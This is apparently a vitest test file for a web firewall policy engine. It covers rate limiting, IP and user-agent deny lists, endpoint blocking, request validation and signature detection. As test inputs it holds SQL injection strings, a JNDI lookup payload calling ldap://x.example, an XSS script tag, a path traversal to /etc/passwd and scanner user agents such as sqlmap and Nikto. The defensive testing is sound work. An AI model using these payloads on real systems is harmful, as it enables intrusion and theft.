import { describe, expect, it } from 'vitest';
import { compilePolicy } from '../../../src/core/policy/evaluate.ts';
import { parsePolicy } from '../../../src/core/policy/load.ts';
import { simulatePolicy, type SimulationResult } from '../../../src/core/policy/simulate.ts';
import { iterateExchanges, iterateRequests, readBody } from '../../../src/core/store/exchanges.ts';
import { makeWorkspace, type RowSpec } from '../../helpers/workspace.ts';
import { ex, fullPolicy } from './fixtures.ts';

const policy = fullPolicy();
const judge = (e: ReturnType<typeof ex>) => {
  const c = compilePolicy(policy);
  const verdicts = c.judge(e);
  return Object.fromEntries(c.rules.map((r, i) => [r.rule.id, verdicts[i]]));
};

describe('rule evaluation', () => {
  it('rate limits follow NGINX limit_req arithmetic (burst + 1 at once, then the rate)', () => {
    const only = parsePolicy(`cartograph-policy: 1\nname: t\nrules:\n  - {id: r, type: rate-limit, action: throttle, source: {origin: manual}, key: ip, limit: 3, window: 1m, burst: 2}\n`);
    const c = compilePolicy(only);
    const t0 = 1_700_000_000_000;
    const verdicts = [0, 1, 2, 3, 4].map((i) => c.judge(ex({ time: t0 + i }))[0]);
    expect(verdicts.slice(0, 3)).toEqual([false, false, false]);
    expect(verdicts[3]).toMatch(/over 3\/60s/);
    // 20 s later (3 per minute = one per 20 s) one more request fits.
    expect(c.judge(ex({ time: t0 + 20_005 }))[0]).toBe(false);
    expect(c.judge(ex({ time: t0 + 20_010 }))[0]).toMatch(/over/);
    // Other keys have their own bucket; requests without the key are not accounted.
    expect(c.judge(ex({ time: t0 + 20_011, ip: '192.0.2.99' }))[0]).toBe(false);
    expect(c.judge(ex({ time: t0 + 20_012, ip: null }))[0]).toBe(false);
  });

  it('scoped rate limits look only at their scope', () => {
    expect(judge(ex({ method: 'GET', path: '/api/login', principal: 'u1' }))['rate.login']).toBeNull();
    expect(judge(ex({ method: 'POST', path: '/api/login', principal: 'u1' }))['rate.login']).toBe(false);
  });

  it('access lists: IPs, CIDRs, principals, user agents, countries; allow lists within a scope', () => {
    expect(judge(ex({ ip: '203.0.113.7' }))['deny.actors']).toMatch(/ip 203\.0\.113\.7/);
    expect(judge(ex({ ip: '198.51.100.77' }))['deny.actors']).toMatch(/in 198\.51\.100\.0\/24/);
    expect(judge(ex({ ip: '::ffff:198.51.100.77' }))['deny.actors']).toMatch(/198\.51\.100\.77/);
    expect(judge(ex({ principal: 'user-9' }))['deny.actors']).toMatch(/principal user-9/);
    expect(judge(ex({ ua: 'Mozilla/5.0 SQLMap/1.7' }))['deny.actors']).toMatch(/user agent contains "sqlmap"/);
    expect(judge(ex({ ua: 'Nikto/2.5' }))['deny.actors']).toMatch(/user agent matches/);
    expect(judge(ex({ ua: 'xNikto/2.5' }))['deny.actors']).toBe(false);
    expect(judge(ex({ extra: { country: 'kp' } }))['deny.actors']).toMatch(/country KP/);
    expect(judge(ex({ ip: '192.0.2.1', ua: 'curl/8' }))['deny.actors']).toBe(false);
    expect(judge(ex({ path: '/admin/users', ip: '10.1.2.3' }))['admin.office']).toBe(false);
    expect(judge(ex({ path: '/admin/users', ip: '192.0.2.1' }))['admin.office']).toBe('not on the allow list');
    expect(judge(ex({ path: '/public', ip: '192.0.2.1' }))['admin.office']).toBeNull();
  });

  it('blocked endpoints and methods', () => {
    expect(judge(ex({ path: '/api/v1/users/42' }))['block.zombie']).toMatch(/GET \/api\/v1\/users\/\{id\} is blocked \(superseded by v2\)/);
    expect(judge(ex({ path: '/api/v1/users/42/orders' }))['block.zombie']).toBe(false);
    expect(judge(ex({ method: 'TRACE', path: '/' }))['block.zombie']).toMatch(/TRACE is blocked/);
  });

  it('the positive model rejects unknown operations, undeclared or mistyped parameters and bad bodies', () => {
    const v = (o: Parameters<typeof ex>[0]) => judge(ex(o))['allow.ops'];
    expect(v({ path: '/ok.txt' })).toBe(false);
    expect(v({ path: '/nope' })).toMatch(/not an allowed operation/);
    expect(v({ path: '/api/v2/users/7', query: '?page=2' })).toBe(false);
    expect(v({ path: '/api/v2/users/7', host: 'other.example' })).toMatch(/not an allowed operation/);
    expect(v({ path: '/api/v2/users/7', query: '?page=two' })).toMatch(/query parameter page must be integer/);
    expect(v({ path: '/api/v2/users/7', query: '?debug=1' })).toMatch(/undeclared query parameter "debug"/);
    expect(v({ path: '/api/v2/users/abc' })).toMatch(/path parameter id must be integer/);
    expect(v({ path: '/admin/a/b/c' })).toBe(false);
    expect(v({ method: 'POST', path: '/api/login', body: '{"username":"a"}', contentType: 'application/json' })).toBe(false);
    expect(v({ method: 'POST', path: '/api/login', body: '{"user":"a"}', contentType: 'application/json' })).toMatch(/request body must have required property 'username'/);
    expect(v({ method: 'POST', path: '/api/login', body: '{not json', contentType: 'application/json' })).toMatch(/not valid JSON/);
    expect(v({ method: 'POST', path: '/api/login', body: 'a=b', contentType: 'application/x-www-form-urlencoded' })).toMatch(/content type application\/x-www-form-urlencoded is not accepted/);
    expect(v({ method: 'POST', path: '/api/login' })).toMatch(/request body is required/);
  });

  it('signature rules reuse the detection engine libraries', () => {
    expect(judge(ex({ path: '/api/v2/users/7', query: "?page=1'%20OR%20'1'='1" }))['sig.injection']).toMatch(/^sqli signature in query page/);
    expect(judge(ex({ method: 'POST', path: '/api/login', body: '{"username":"${jndi:ldap://x.example/a}"}', contentType: 'application/json' }))['sig.injection']).toMatch(/^jndi signature in body/);
    expect(judge(ex({ path: '/.env' }))['sig.scanner']).toMatch(/probe-path/);
    expect(judge(ex({ path: '/api/v2/users/7', query: '?page=2&sort=id' }))['sig.injection']).toBe(false);
  });
});

describe('simulatePolicy', () => {
  const t0 = 1_700_000_000_000;
  const traffic = () => [
    ex({ id: 1, time: t0, ip: '203.0.113.7', ua: 'sqlmap/1.7', path: '/ok.txt' }),
    ex({ id: 2, time: t0 + 1, ip: '203.0.113.7', path: '/api/v2/users/1', query: "?page=1'%20or%201=1--" }),
    ex({ id: 3, time: t0 + 2, ip: '192.0.2.50', path: '/nope' }),
    ex({ id: 4, time: t0 + 3, ip: '192.0.2.50', path: '/ok.txt' }),
    ex({ id: 5, time: t0 + 60_000, ip: '192.0.2.51', path: '/.env' }),
    ...[6, 7, 8, 9, 10].map((id) => ex({ id, time: t0 + 120_000 + id, ip: '192.0.2.52', path: '/ok.txt' })),
  ];
  const findings = [{ id: 'f1', rule: 'injection.sqli', category: 'injection', severity: 'high', actor: { ip: '203.0.113.7', principal: null }, endpoint: { host: 'api.shop.example', method: 'GET', path: '/api/v2/users/{id}' }, requestIds: [2] }];

  it('counts per rule, by actor, split into flagged and clean traffic, with samples', () => {
    const r = simulatePolicy(traffic(), policy, { findings });
    expect(r.exchanges).toBe(10);
    expect(r.revision).toMatch(/^[0-9a-f]{16}$/);
    const by = Object.fromEntries(r.rules.map((x) => [x.id, x]));
    expect(by['deny.actors']).toMatchObject({ evaluated: 10, matched: 2, blocked: 2, likelyTruePositives: { requests: 2, actors: 1, evidenceRequests: 1 }, likelyFalsePositives: { requests: 0, actors: 0 } });
    expect(by['deny.actors'].actors.top).toEqual([{ actor: '203.0.113.7', requests: 2, flagged: true }]);
    expect(by['deny.actors'].samples).toEqual({ flagged: [1, 2], clean: [] });
    // The injected page value is mistyped too: one flagged match, two clean ones.
    expect(by['allow.ops']).toMatchObject({ matched: 3, likelyTruePositives: { requests: 1 }, likelyFalsePositives: { requests: 2, actors: 2 } });
    expect(by['allow.ops'].samples.clean).toEqual([3, 5]);
    expect(by['sig.injection']).toMatchObject({ matched: 1, likelyTruePositives: { evidenceRequests: 1 } });
    expect(by['sig.scanner']).toMatchObject({ matched: 1, logged: 1, blocked: 0 });
    expect(by['rate.ip']).toMatchObject({ evaluated: 10, matched: 2, throttled: 2 });
    expect(by['rate.ip'].actors.top[0]).toMatchObject({ actor: '192.0.2.52', requests: 2, flagged: false });
    expect(by['rate.login'].evaluated).toBe(0);
    expect(r.totals).toEqual({ blocked: 4, throttled: 2, logged: 0, passed: 4, blockedFlagged: 2, blockedClean: 2 });
    expect(by['deny.actors'].example).toMatch(/203\.0\.113\.7/);
  });

  it('ignores findings triaged as false positives', () => {
    const r = simulatePolicy(traffic(), policy, { findings: findings.map((f) => ({ ...f, status: 'false-positive' })) });
    expect(r.rules.find((x) => x.id === 'deny.actors')!.likelyTruePositives.requests).toBe(0);
  });

  it('skips disabled rules and reads a workspace (bodies when needed)', () => {
    const p = parsePolicy(`cartograph-policy: 1\nname: t\nrules:\n  - {id: s, type: signature, action: block, source: {origin: manual}, signatures: [sqli], targets: [body]}\n  - {id: off, enabled: false, type: block-endpoints, action: block, source: {origin: manual}, methods: [GET]}\n`);
    const ws = makeWorkspace([
      { method: 'POST', path: '/login', reqBody: JSON.stringify({ u: "admin' OR '1'='1" }), reqHeaders: [['content-type', 'application/json']], ip: '192.0.2.1' },
      { method: 'POST', path: '/login', reqBody: JSON.stringify({ u: 'alice' }), reqHeaders: [['content-type', 'application/json']], ip: '192.0.2.2' },
    ]);
    const r = simulatePolicy(ws.db, p);
    expect(r.rules.map((x) => x.id)).toEqual(['s']);
    expect(r.rules[0]).toMatchObject({ matched: 1, samples: { clean: [ws.ids[0]] } });
    expect(r.exchanges).toBe(2);
    ws.db.close();
  });

  // The workspace path reads request columns only, shares one header list per distinct stored
  // header text, loads bodies lazily by id and memoises by those: it must agree with judging every
  // exchange as iterateExchanges gives it, whole and with fresh header arrays.
  const sqli = JSON.stringify({ username: "admin' OR '1'='1" });
  const form = 'username=x&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E';
  const rows: RowSpec[] = [
    ...Array.from({ length: 12 }, (_, i): RowSpec => ({ method: 'POST', host: 'api.shop.example', path: '/api/login', reqBody: i % 3 ? JSON.stringify({ username: `u${i % 2}` }) : sqli, reqHeaders: [['Content-Type', 'application/json'], ['User-Agent', 'app/1']], ip: `192.0.2.${i % 4}`, principal: i % 2 ? 'alice' : null, time: t0 + i * 100 })),
    // The same bytes under other content types: form-decoded, plain text, none.
    { method: 'POST', host: 'api.shop.example', path: '/api/login', reqBody: form, reqHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], ip: '192.0.2.9', time: t0 + 2000 },
    { method: 'POST', host: 'api.shop.example', path: '/api/login', reqBody: form, reqHeaders: [['Content-Type', 'text/plain']], ip: '192.0.2.9', time: t0 + 2001 },
    { method: 'POST', host: 'api.shop.example', path: '/api/login', reqBody: form, ip: '192.0.2.9', time: t0 + 2002 },
    { method: 'POST', host: 'api.shop.example', path: '/api/login', reqBody: sqli, reqHeaders: [['Content-Type', 'text/plain']], ip: '192.0.2.9', time: t0 + 2003 },
    // No body where one is required; a large compressed body; a principal spelled like an IP.
    { method: 'POST', host: 'api.shop.example', path: '/api/login', reqHeaders: [['Content-Type', 'application/json']], ip: '192.0.2.9', time: t0 + 2004 },
    { method: 'POST', host: 'api.shop.example', path: '/api/login', reqBody: JSON.stringify({ username: 'x', pad: 'a'.repeat(5000), q: '../../etc/passwd' }), reqHeaders: [['Content-Type', 'application/json']], ip: '192.0.2.9', time: t0 + 2005 },
    { path: '/api/v2/users/7', query: '?page=2', principal: '192.0.2.1', ip: '198.51.100.4', reqHeaders: [['User-Agent', 'sqlmap/1.7']], time: t0 + 2006 },
    { path: '/api/v2/users/7', query: '?page=2', ip: '192.0.2.1', reqHeaders: [['User-Agent', 'sqlmap/1.7']], time: t0 + 2007 },
    { path: '/admin/users', ip: '10.1.2.3', extra: { country: 'kp' }, time: t0 + 2008 },
    { path: '/admin/users', ip: '192.0.2.77', time: t0 + 2008 },
    { path: '/api/v1/users/3', ip: null, clientIp: '203.0.113.7', time: t0 + 2009 },
    { path: '/.env', ip: null, time: t0 + 2010 },
  ];
  const sameAsInMemory = (ws: ReturnType<typeof makeWorkspace>, filter?: string): SimulationResult => {
    const fromDb = simulatePolicy(ws.db, policy, { findings, filter });
    const inMemory = simulatePolicy([...iterateExchanges(ws.db, { order: 'time', withBodies: true, filter })], policy, { findings });
    expect({ ...fromDb, seconds: 0 }).toEqual({ ...inMemory, seconds: 0 });
    // The workbench's re-runs: the first keeps a copy of the request side, the next reads it.
    for (let run = 0; run < 2; run++) expect({ ...simulatePolicy(ws.db, policy, { findings, filter, keep: true }), seconds: 0 }).toEqual({ ...inMemory, seconds: 0 });
    return fromDb;
  };

  it('judges a workspace exactly as its whole exchanges in memory', () => {
    const ws = makeWorkspace([...rows, ...rows.map((r) => ({ ...r, time: r.time! + 600_000 }))]);
    const r = sameAsInMemory(ws);
    const by = Object.fromEntries(r.rules.map((x) => [x.id, x]));
    // Every body-, header- and line-derived rule acted at least once, so the agreement means something.
    for (const id of ['rate.ip', 'deny.actors', 'admin.office', 'block.zombie', 'allow.ops', 'sig.injection', 'sig.scanner']) expect(by[id].matched, id).toBeGreaterThan(0);
    expect(by['allow.ops'].example).toBeTruthy();
    sameAsInMemory(ws, 'method = POST');
    ws.db.close();
  });

  it('judges each body by its own content type, however often its bytes repeat', () => {
    const p = parsePolicy(`cartograph-policy: 1\nname: t\nrules:\n  - {id: s, type: signature, action: block, source: {origin: manual}, signatures: [sqli, xss, traversal], targets: [body]}\n`);
    const ws = makeWorkspace([...rows, ...rows].filter((r) => r.reqBody));
    // Lazy bodies through one compiled policy (memoised by body id and content type) against
    // every exchange judged whole by a fresh policy (nothing memoised).
    const c = compilePolicy(p);
    c.context.loadBody = (id) => readBody(ws.db, id);
    const memoised = [...iterateRequests(ws.db, { order: 'time', withBodies: 'lazy' })].map((e) => c.judge(e)[0]);
    const alone = [...iterateExchanges(ws.db, { order: 'time', withBodies: true })].map((e) => compilePolicy(p).judge(e)[0]);
    expect(memoised).toEqual(alone);
    // The form body names its field where it is form-encoded, and is one text elsewhere.
    expect(new Set(alone.filter((v) => typeof v === 'string' && v.startsWith('xss')).map((v) => (v as string).split(':')[0]))).toEqual(new Set(['xss signature in body q', 'xss signature in body']));
    expect(simulatePolicy(ws.db, p).rules[0].matched).toBe(alone.filter(Boolean).length);
    ws.db.close();
  });
});
